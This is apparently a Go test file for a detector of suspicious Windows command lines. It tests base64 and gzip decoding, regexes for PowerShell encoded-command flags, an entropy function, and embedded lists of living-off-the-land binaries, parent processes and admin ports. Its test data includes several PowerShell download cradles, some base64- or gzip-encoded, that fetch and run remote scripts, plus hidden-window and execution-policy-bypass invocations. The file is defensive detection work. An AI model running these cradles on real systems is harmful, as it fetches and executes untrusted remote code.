package features

import (
	"math"
	"regexp"
	"strings"
	"testing"
)

// base64Cases are the DecodeBase64Text table; they also seed its fuzz target.
var base64Cases = []struct {
	name, in, want string
	ok             bool
}{
	{"utf16le", "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAHQAcgBhAHcAbAAiAA==", `Write-Output "hello trawl"`, true},
	{"utf16le download cradle", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACIAKQA=",
		`IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/a.ps1")`, true},
	{"utf16le latin-1", "YwBhAGYA6QAgAPwAbQBsAGEAdQB0AA==", "café ümlaut", true},
	{"utf16le missing padding", "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAHQAcgBhAHcAbAAiAA", `Write-Output "hello trawl"`, true},
	{"utf8", "d2hvYW1pIC9hbGw=", "whoami /all", true},
	{"not base64", "not*base64!", "", false},
	{"gzip payload", "H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQyigpKbDS1ze0tNAzNdQzNDDQs9QvLklMT1XSBACVJG5MSgAAAA==",
		`IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/stage")`, true},
	{"raw deflate payload", "83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DKKCkpsNLXN7S00DM11DM0MNCz1C8uSUxPVdIEAA==",
		`IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/stage")`, true},
	{"truncated gzip", "H4sIAAAAAAAEAAsJ", "", false},
	{"binary", "AAECAwQFBgcICQ==", "", false},
	{"empty", "", "", false},
}

func TestDecodeBase64Text(t *testing.T) {
	for _, tc := range base64Cases {
		t.Run(tc.name, func(t *testing.T) {
			got, ok := DecodeBase64Text(tc.in)
			if got != tc.want || ok != tc.ok {
				t.Errorf("DecodeBase64Text(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
			}
		})
	}
}

func TestEncodedCommandPattern(t *testing.T) {
	re := regexp.MustCompile(EncodedCommandPattern)
	const b64 = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQA"
	cases := []struct {
		cmd  string
		want string // "" when there is no match
	}{
		{"powershell.exe -enc " + b64, b64},
		{"powershell.exe -EncodedCommand " + b64, b64},
		{"powershell -nop -w hidden -e " + b64, b64},
		{"powershell -ec " + b64, b64},
		{"powershell -En " + b64, b64},
		{"powershell -encodedc " + b64, b64},
		{"powershell /enc " + b64, b64},
		{"powershell \u2013enc " + b64, b64},
		{`powershell -enc "` + b64 + `"`, b64},
		{"powershell -ep bypass -File a.ps1", ""},
		{"powershell -ExecutionPolicy Bypass " + b64, ""},
		{"powershell -exec bypass", ""},
		{"powershell -enc short", ""},
		{"cmd /c echo -encx " + b64, ""},
	}
	for _, tc := range cases {
		m := re.FindStringSubmatch(tc.cmd)
		got := ""
		if m != nil {
			got = m[1]
		}
		if got != tc.want {
			t.Errorf("%q: got %q, want %q", tc.cmd, got, tc.want)
		}
	}
	fb := regexp.MustCompile(FromBase64Pattern)
	for _, cmd := range []string{
		`$b=[System.Convert]::FromBase64String('d2hvYW1pIC9hbGw=')`,
		`-c '...[Convert]::FromBase64String(''d2hvYW1pIC9hbGw='')...'`, // quote doubled inside a quoted argument
		`[Convert]::FromBase64String( "d2hvYW1pIC9hbGw=" )`,
	} {
		if m := fb.FindStringSubmatch(cmd); m == nil || m[1] != "d2hvYW1pIC9hbGw=" {
			t.Errorf("FromBase64Pattern on %s: %q", cmd, m)
		}
	}
}

func TestEntropy(t *testing.T) {
	cases := []struct {
		in   string
		want float64
	}{
		{"", 0},
		{"aaaa", 0},
		{"ab", 1},
		{"aabb", 1},
		{"abcd", 2},
		{"abcdefgh", 3},
	}
	for _, tc := range cases {
		if got := Entropy(tc.in); math.Abs(got-tc.want) > 1e-9 {
			t.Errorf("Entropy(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// TestLists checks the embedded lists parse and hold what the features rely on.
func TestLists(t *testing.T) {
	lol := map[string]bool{}
	for _, l := range LOLBASList() {
		if l.Name == "" || strings.ContainsAny(l.Name, " ,/\\") {
			t.Errorf("lolbas name %q", l.Name)
		}
		lol[strings.ToLower(l.Name)] = true
	}
	for _, want := range []string{"certutil.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe", "bitsadmin.exe", "comsvcs.dll"} {
		if !lol[want] {
			t.Errorf("lolbas list lacks %s", want)
		}
	}
	if len(lol) < 200 {
		t.Errorf("lolbas list has %d names", len(lol))
	}
	parents := map[string][]string{}
	for _, p := range Parents() {
		parents[p.Child] = append(parents[p.Child], p.Parent)
	}
	for _, child := range []string{"smss.exe", "csrss.exe", "wininit.exe", "winlogon.exe", "services.exe", "lsass.exe", "svchost.exe", "taskhostw.exe", "explorer.exe", "userinit.exe", "runtimebroker.exe"} {
		if len(parents[child]) == 0 {
			t.Errorf("no parents for %s", child)
		}
	}
	if got := parents["lsass.exe"]; len(got) != 1 || got[0] != "wininit.exe" {
		t.Errorf("lsass parents %v", got)
	}
	admin := map[int]bool{}
	for _, p := range Ports() {
		if p.Admin {
			admin[p.Port] = true
		}
	}
	for _, p := range []int{22, 3389, 5985, 5986, 445} {
		if !admin[p] {
			t.Errorf("port %d is not an admin port", p)
		}
	}
	if len(ProtocolPorts()) == 0 || len(IPRanges()) < 15 {
		t.Error("protocol ports or ip ranges missing")
	}
	seen := map[string]bool{}
	for _, c := range Columns {
		if seen[c.Name] || c.Doc == "" {
			t.Errorf("column %s repeated or undocumented", c.Name)
		}
		seen[c.Name] = true
	}
}

func FuzzDecodeBase64Text(f *testing.F) {
	for _, s := range []string{"VwByAGkAdABlAA==", "d2hvYW1p", "", "====", "YwBhAGYA6QAgAPwA"} {
		f.Add(s)
	}
	for _, tc := range base64Cases {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		text, ok := DecodeBase64Text(s)
		if ok && text == "" {
			t.Fatal("ok with empty text")
		}
		if !ok && text != "" {
			t.Fatal("text without ok")
		}
	})
}
